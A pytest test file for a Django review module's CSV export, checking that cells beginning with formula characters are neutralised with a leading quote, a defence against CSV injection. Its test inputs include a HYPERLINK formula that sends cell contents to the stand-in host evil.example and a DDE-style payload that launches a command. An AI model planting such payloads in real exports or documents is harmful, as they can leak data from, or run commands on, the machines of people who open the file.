"""
The review CSV export cannot carry a spreadsheet formula (CSV injection, OWASP): a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading single quote.
"""

import csv
import io

import pytest
from django.contrib.auth import get_user_model

from openedx_dcp.review import export
from tests.review.factories import partner_nomination

BASE = "/api/dcp/v1/review"


def _rows(world):
    response = world.client(world.staff).get(f"{BASE}/cycles/{world.cycle.pk}/export.csv")
    assert response.status_code == 200
    return {int(row["nomination_id"]): row for row in csv.DictReader(io.StringIO(response.content.decode()))}


@pytest.mark.parametrize("name", [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
    "\t=1+1", "\r=1+1",
])
def test_a_nominee_name_that_looks_like_a_formula_is_written_as_text(world, name):
    nomination = partner_nomination(world, size=500)
    nomination.nominee_organization.name = name
    nomination.nominee_organization.save()
    row = _rows(world)[nomination.pk]
    assert row["nominee"] == "'" + name
    assert not row["nominee"].startswith(export.FORMULA_PREFIXES)


def test_usernames_made_of_formula_characters_are_neutralized_and_plain_cells_are_untouched(world):
    nominee = world.nominations[0].nominee_user
    get_user_model().objects.filter(pk=nominee.pk).update(username="@evil+1")
    rows = _rows(world)
    assert rows[world.nominations[0].pk]["nominee"] == "'@evil+1"
    plain = rows[world.nominations[1].pk]
    assert plain["nominee"] == world.nominations[1].nominee_user.username
    assert plain["track"] == "engineer" and plain["endorsements"] == "3"


def test_neutralize_leaves_numbers_and_safe_text_alone():
    assert export.neutralize(-3) == -3
    assert export.neutralize(2.5) == 2.5
    assert export.neutralize("Acme = good") == "Acme = good"
    assert export.neutralize("") == ""
    assert export.neutralize("-x") == "'-x"
